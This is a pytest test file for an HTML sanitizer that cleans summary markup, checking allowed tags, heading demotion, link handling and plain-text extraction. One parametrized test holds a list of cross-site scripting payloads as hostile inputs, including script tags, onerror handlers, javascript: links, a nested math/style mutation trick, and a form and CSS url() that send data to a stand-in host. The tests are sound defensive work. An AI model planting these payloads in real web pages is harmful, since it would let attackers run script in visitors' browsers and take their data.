from __future__ import annotations

import pytest

from osteon.standards.safe_html import clean, plain


def test_clean_keeps_what_a_summary_is_made_of():
    summary = "<h3>What is it?</h3><p>An <em>infection</em>.</p><ul><li>Pain</li></ul>"
    assert clean(summary) == summary


@pytest.mark.parametrize(
    "written",
    [
        "<script>steal()</script>",
        "<SCRIPT src=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=steal()>",
        "<svg><script>steal()</script></svg>",
        "<iframe src='https://evil.example'></iframe>",
        "<style>body{background:url(https://evil.example/steal)}</style>",
        "<p onclick='steal()' style='position:fixed'>x</p>",
        "<a href='javascript:steal()'>x</a>",
        "<a href='data:text/html,steal'>x</a>",
        "<math><mtext><style><img src=x onerror=steal()></style></mtext></math>",
        "<form action='https://evil.example/steal'><input name=q></form>",
    ],
)
def test_clean_leaves_nothing_that_acts(written):
    kept = clean(f"<p>before</p>{written}<p>after</p>")
    assert "before" in kept and "after" in kept
    for bad in ("steal", "evil", "onclick", "style", "<img", "<iframe", "<form", "javascript"):
        assert bad not in kept


def test_clean_lowers_headings_that_would_outrank_the_page():
    assert clean("<h1>A</h1><h2 id='x'>B</h2><h3>C</h3>") == "<h3>A</h3><h3>B</h3><h3>C</h3>"


def test_clean_keeps_web_links_only_and_marks_them():
    assert clean('<a href="https://a.example/" data-tid="4">x</a>') == (
        '<a href="https://a.example/" rel="noopener noreferrer nofollow">x</a>'
    )
    assert "href" not in clean('<a href="/relative">x</a>')


def test_clean_drops_empty_paragraphs_also_when_nested():
    assert clean("<p></p><ul><li><p> </p></li><li>x</li></ul>") == "<ul><li>x</li></ul>"


def test_plain_parts_blocks_and_resolves_entities():
    assert plain("<p>a &amp; b</p><p>c &lt; d</p><ul><li>x</li><li>y</li></ul>") == "a & b c < d x y"
    assert plain("<p>x</p><script>steal()</script>") == "x"
